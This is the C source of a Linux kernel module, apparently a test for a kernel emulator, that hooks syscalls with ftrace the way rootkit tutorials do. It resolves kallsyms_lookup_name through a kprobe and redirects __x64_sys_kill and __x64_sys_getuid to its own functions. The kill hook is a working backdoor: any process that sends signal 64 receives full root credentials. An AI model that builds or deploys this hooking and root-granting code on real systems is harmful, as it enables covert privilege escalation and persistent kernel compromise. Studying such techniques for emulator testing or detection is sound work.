// SPDX-License-Identifier: GPL-2.0
/*
 * rk_ftrace.c - a rootkit-style test module: system calls hooked with ftrace,
 * the "ftrace_helper.h" way of the rootkit tutorials: kallsyms_lookup_name()
 * found through a kprobe, ftrace_set_filter_ip() on the syscall's function,
 * an FTRACE_OPS_FL_IPMODIFY callback that moves regs->ip to the hook, and the
 * hook calling the original (at address + MCOUNT_INSN_SIZE for kill, at the
 * address itself for getuid, with within_module(parent_ip) against recursion).
 * kill(pid, 64) grants root and succeeds; other kills go to the original.
 * A second IPMODIFY ops on kill must fail with -EBUSY; a plain tracing ops
 * set by name (ftrace_set_filter) sees whether it gets the registers.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/cred.h>
#include <linux/sched.h>
#include <linux/uidgid.h>

#define MAGIC_SIG 64

struct ftrace_hook {
	const char *name;
	void *function;
	void *original;
	int fentry_offset;
	unsigned long address;
	struct ftrace_ops ops;
};

static unsigned long (*lookup_name)(const char *name);

static int resolve_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret = register_kprobe(&kp);

	if (ret < 0)
		return ret;
	lookup_name = (unsigned long (*)(const char *))kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

static void notrace fh_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
				    struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);
	struct ftrace_hook *hook = container_of(ops, struct ftrace_hook, ops);

	if (!regs)
		return;
	if (hook->fentry_offset || !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)hook->function;
}

static int fh_install_hook(struct ftrace_hook *hook)
{
	int err;

	hook->address = lookup_name(hook->name);
	if (!hook->address) {
		pr_info("rk_ftrace: unresolved symbol: %s\n", hook->name);
		return -ENOENT;
	}
	*((unsigned long *)hook->original) = hook->address +
		(hook->fentry_offset ? MCOUNT_INSN_SIZE : 0);
	hook->ops.func = fh_ftrace_thunk;
	hook->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION |
			  FTRACE_OPS_FL_IPMODIFY;
	err = ftrace_set_filter_ip(&hook->ops, hook->address, 0, 0);
	if (err) {
		pr_info("rk_ftrace: ftrace_set_filter_ip() failed: %d\n", err);
		return err;
	}
	err = register_ftrace_function(&hook->ops);
	if (err) {
		pr_info("rk_ftrace: register_ftrace_function() failed: %d\n", err);
		ftrace_set_filter_ip(&hook->ops, hook->address, 1, 0);
		return err;
	}
	return 0;
}

static void fh_remove_hook(struct ftrace_hook *hook)
{
	int err = unregister_ftrace_function(&hook->ops);

	if (err)
		pr_info("rk_ftrace: unregister_ftrace_function() failed: %d\n", err);
	err = ftrace_set_filter_ip(&hook->ops, hook->address, 1, 0);
	if (err)
		pr_info("rk_ftrace: ftrace_set_filter_ip() failed: %d\n", err);
}

static asmlinkage long (*orig_kill)(const struct pt_regs *);
static asmlinkage long (*orig_getuid)(const struct pt_regs *);

static asmlinkage long hook_kill(const struct pt_regs *regs)
{
	int sig = regs->si;
	struct cred *cred;
	long ret;

	if (sig != MAGIC_SIG) {
		ret = orig_kill(regs);
		pr_info("rk_ftrace: kill(%d, %d) = %ld\n", (int)regs->di, sig, ret);
		return ret;
	}
	pr_info("rk_ftrace: %s (uid %u) sent the magic signal\n", current->comm,
		from_kuid(&init_user_ns, current_uid()));
	cred = prepare_creds();
	if (!cred)
		return -ENOMEM;
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
	commit_creds(cred);
	return 0;
}

static asmlinkage long hook_getuid(const struct pt_regs *regs)
{
	long ret = orig_getuid(regs);

	pr_info("rk_ftrace: getuid() = %ld in %s\n", ret, current->comm);
	return ret;
}

static struct ftrace_hook hooks[] = {
	{ .name = "__x64_sys_kill", .function = hook_kill, .original = &orig_kill,
	  .fentry_offset = 1 },
	{ .name = "__x64_sys_getuid", .function = hook_getuid, .original = &orig_getuid },
};

static struct ftrace_hook second = {
	.name = "__x64_sys_kill", .function = hook_kill, .original = &orig_kill,
	.fentry_offset = 1,
};

static int traced;

static void notrace trace_kill(unsigned long ip, unsigned long parent_ip,
			       struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	if (traced++ < 4)
		pr_info("rk_ftrace: traced %pS, regs %s, from the module: %d\n", (void *)ip,
			ftrace_get_regs(fregs) ? "saved" : "NULL",
			within_module(parent_ip, THIS_MODULE));
}

static struct ftrace_ops trace_ops = {
	.func = trace_kill,
	.flags = FTRACE_OPS_FL_RECURSION,
};

static int __init rk_ftrace_init(void)
{
	int err, i;
	unsigned char name[] = "__x64_sys_kill";

	err = resolve_lookup_name();
	if (err) {
		pr_info("rk_ftrace: kallsyms_lookup_name not found: %d\n", err);
		return err;
	}
	err = ftrace_set_filter_ip(&trace_ops, lookup_name("__x64_sys_kill") + 1, 0, 0);
	pr_info("rk_ftrace: ftrace_set_filter_ip(__x64_sys_kill+1): %d\n", err);
	err = ftrace_set_filter_ip(&trace_ops, lookup_name("__x64_sys_kill") + MCOUNT_INSN_SIZE,
				   0, 0);
	pr_info("rk_ftrace: ftrace_set_filter_ip(__x64_sys_kill+%d): %d\n", MCOUNT_INSN_SIZE, err);
	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		err = fh_install_hook(&hooks[i]);
		if (err) {
			while (--i >= 0)
				fh_remove_hook(&hooks[i]);
			return err;
		}
	}
	err = fh_install_hook(&second);
	pr_info("rk_ftrace: a second IPMODIFY hook on kill: %d\n", err);
	err = ftrace_set_filter(&trace_ops, name, sizeof(name) - 1, 1);
	if (!err)
		err = register_ftrace_function(&trace_ops);
	pr_info("rk_ftrace: tracing %s: %d, flags %#lx\n", name, err, trace_ops.flags);
	pr_info("rk_ftrace: hooked kill and getuid, flags %#lx\n", hooks[0].ops.flags);
	return 0;
}

static void __exit rk_ftrace_exit(void)
{
	int i;

	unregister_ftrace_function(&trace_ops);
	for (i = 0; i < ARRAY_SIZE(hooks); i++)
		fh_remove_hook(&hooks[i]);
	pr_info("rk_ftrace: unhooked\n");
}

module_init(rk_ftrace_init);
module_exit(rk_ftrace_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("kemu test: system calls hooked with ftrace, as rootkit tutorials do");
